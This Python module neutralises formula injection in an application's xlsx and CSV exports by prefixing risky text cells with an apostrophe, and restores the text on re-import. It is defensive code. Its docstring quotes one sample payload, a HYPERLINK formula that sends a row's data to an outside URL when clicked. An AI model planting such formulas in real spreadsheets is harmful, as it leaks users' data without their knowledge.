"""Every xlsx and CSV the application writes goes through here, so no export can carry a
live formula (CSV/formula injection).

A spreadsheet program runs a text cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://…?"&A2, "Bấm")` sends the row away on a click), and a leading tab or
carriage return can smuggle one past a first-character check. Following the OWASP guidance
(https://owasp.org/www-community/attacks/CSV_Injection), such a text gets a leading
apostrophe: Excel and LibreOffice show it as text. Numbers written as numbers (money, counts,
a negative amount) are number cells and are left alone; only text is touched.

`restore` undoes `neutralise`, and the register import calls it on every cell, so an export
imported again gives back exactly what was exported. A text that already starts with an
apostrophe before one of those characters (or before another apostrophe) gets one more, so
that `restore(neutralise(t)) == t` for every text.

The writers use `workbook()` / `add_sheet()` and `csv_writer()`: the sheet and the writer
neutralise every cell they are given, so a writer cannot forget it.
`core/tests/test_spreadsheet.py` checks that no other module creates a Workbook or a
csv.writer.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def neutralise(text: str) -> str:
    """`text` as a spreadsheet shows it but never runs it."""
    if text and (text[0] in TRIGGERS or (text[0] == QUOTE and _quoted(text))):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """The text `neutralise` was given."""
    return text[1:] if _quoted(text) else text


def _quoted(text: str) -> bool:
    return len(text) >= 2 and text[0] == QUOTE and (text[1] in TRIGGERS or text[1] == QUOTE)


def safe(value: Any) -> Any:
    """A cell value as written: text neutralised, anything else (numbers, dates) as it is."""
    return neutralise(value) if isinstance(value, str) else value


# ---------------------------------------------------------------------------------------------
# xlsx (openpyxl, write_only)


def _xlsx_text(value: Any) -> Any:
    """Text an xlsx can hold: neutralised, and the control characters XML 1.0 forbids (openpyxl
    would raise on them, failing the whole download) shown as U+FFFD; the import refuses that
    character in a row, so such a value is flagged rather than silently changed."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if not isinstance(value, str):
        return value
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", neutralise(value))


class SafeSheet:
    """A write-only worksheet whose `append` neutralises every text cell, plain values and
    WriteOnlyCells alike. Everything else is the worksheet's own."""

    def __init__(self, sheet: Any):
        object.__setattr__(self, "_sheet", sheet)

    def append(self, row: Iterable[Any]) -> None:
        cells = []
        for item in row:
            if hasattr(item, "number_format") and hasattr(item, "value"):  # a WriteOnlyCell
                if isinstance(item.value, str):
                    item.value = _xlsx_text(item.value)
                cells.append(item)
            else:
                cells.append(_xlsx_text(item))
        self._sheet.append(cells)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._sheet, name)

    def __setattr__(self, name: str, value: Any) -> None:
        setattr(self._sheet, name, value)


def workbook() -> Any:
    """An empty write-only workbook; add its sheets with `add_sheet`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


def add_sheet(book: Any, title: str) -> SafeSheet:
    return SafeSheet(book.create_sheet(title))


def cell(sheet: Any, value: Any) -> Any:
    """A WriteOnlyCell of `sheet` (a SafeSheet), to style; the sheet's `append` neutralises
    its text (once: neutralising twice would add a second apostrophe)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):  # openpyxl raises on them at once (see _xlsx_text)
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return WriteOnlyCell(getattr(sheet, "_sheet", sheet), value=value)


# ---------------------------------------------------------------------------------------------
# CSV


class SafeWriter:
    """csv.writer that neutralises every text cell; `writerow` returns what the underlying
    writer returns (the line, for a streamed response)."""

    def __init__(self, handle: Any, **options: Any):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **options: Any) -> SafeWriter:
    return SafeWriter(handle, **options)
